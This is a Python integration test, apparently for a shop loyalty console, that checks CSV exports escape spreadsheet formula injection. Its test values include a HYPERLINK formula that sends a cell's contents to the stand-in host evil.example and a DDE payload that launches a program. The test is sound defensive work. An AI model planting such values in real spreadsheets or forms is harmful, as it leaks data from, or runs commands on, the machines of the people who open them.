"""The second outside audit (docs/security.md): text typed by others, as the bridge hands it on — formulas in the
console's CSV files."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from tests.integration.test_api import auth
from tests.woo import connect_for_tests, post_delivery

pytest_plugins = ("tests.console_fixtures",)  # fixtures: merchant, console

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "woocommerce"
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&B2,"Details")'
FORMULA_EMAIL = "@SUM(1+1)@evil.example"
FORMULA_REASON = "=cmd|' /C calc'!A0"
FORMULA_CUSTOMER = "+SUM(1+1)"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a plain number."""
    found = []
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_START):
                try:
                    float(value)
                except ValueError:
                    found.append(value)
    return found


def test_csv_exports_never_hand_a_spreadsheet_a_formula(client, services, shop, console):
    """A customer named `=HYPERLINK(…)` at the shop's sign-up (a signed webhook), a reason and a customer id from
    the API: every CSV of the console writes them as text (a leading '), and a debit stays the number -2.00."""
    connect_for_tests(services, shop.shop.id)
    customer = json.loads((FIXTURES / "customer.json").read_text())
    customer.update(id=777, first_name=FORMULA_NAME, last_name="", email=FORMULA_EMAIL)
    assert post_delivery(client, shop.shop.id, "customer.created", customer).status_code == 200
    for who, key in (("777", "f-1"), (FORMULA_CUSTOMER, "f-2")):
        credit = {"direction": "credit", "amount": 500, "reason": FORMULA_REASON}
        assert (
            client.post(f"/api/v1/customers/{who}/adjustments", json=credit, headers=auth(shop, key)).status_code == 201
        )
    debit = {"direction": "debit", "amount": 200, "reason": "-1+1"}
    assert client.post("/api/v1/customers/777/adjustments", json=debit, headers=auth(shop, "f-3")).status_code == 201

    base = f"/shops/{shop.shop.id}"
    files = {
        name: _cells(client.get(f"{base}/exports/{name}.csv"))
        for name in ("balances", "transactions", "journal", "liability")
    }
    files["statement"] = _cells(client.get(f"{base}/customers/777/statement.csv"))
    for name in ("wallet", "usage", "points", "liability", "reconciliation"):
        files[f"report {name}"] = _cells(client.get(f"{base}/reports/{name}.csv"))

    assert {name: _formulas(rows) for name, rows in files.items() if _formulas(rows)} == {}
    written = {value for rows in files.values() for row in rows for value in row}
    assert {f"'{FORMULA_NAME}", f"'{FORMULA_EMAIL}", f"'{FORMULA_REASON}", f"'{FORMULA_CUSTOMER}", "'-1+1"} <= written
    assert "-2.00" in {row[5] for row in files["statement"]}  # amounts stay numbers
